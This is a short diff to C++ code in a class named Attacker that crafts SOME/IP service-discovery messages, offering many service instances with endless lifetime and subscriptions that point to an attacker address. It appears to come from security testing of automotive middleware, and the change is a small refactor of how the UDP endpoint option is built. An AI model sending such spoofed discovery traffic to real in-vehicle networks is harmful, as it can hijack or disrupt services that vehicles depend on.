@@ -69,7 +69,7 @@ class Attacker {
       entry.instance = static_cast<std::uint16_t>(1 + i / 0xC000 % 0xFFFE);
       entry.major_version = 1;
       entry.ttl = someip::endless_ttl;
-      (void)writer.add(entry, {option(4000)});
+      (void)writer.add(entry, {udp_option(attacker_address, 4000)});
     }
     send(writer, to);
   }
@@ -82,7 +82,7 @@ class Attacker {
     entry.event_group = 1;
     entry.ttl = 3;
     someip::Discovery_writer writer;
-    (void)writer.add(entry, {option(port)});
+    (void)writer.add(entry, {udp_option(attacker_address, port)});
     send(writer, to);
   }
   void first_segment(const sockaddr_in& to) {
@@ -107,10 +107,6 @@ class Attacker {
   }
 
  private:
-  static someip::Option option(std::uint16_t port) {
-    return someip::Option::unicast({boost::asio::ip::make_address(attacker_address), port},
-                                   someip::udp_protocol);
-  }
   void send(const someip::Discovery_writer& writer, const sockaddr_in& to) {
     socket_.send(writer.message(++session_, true), to);
   }
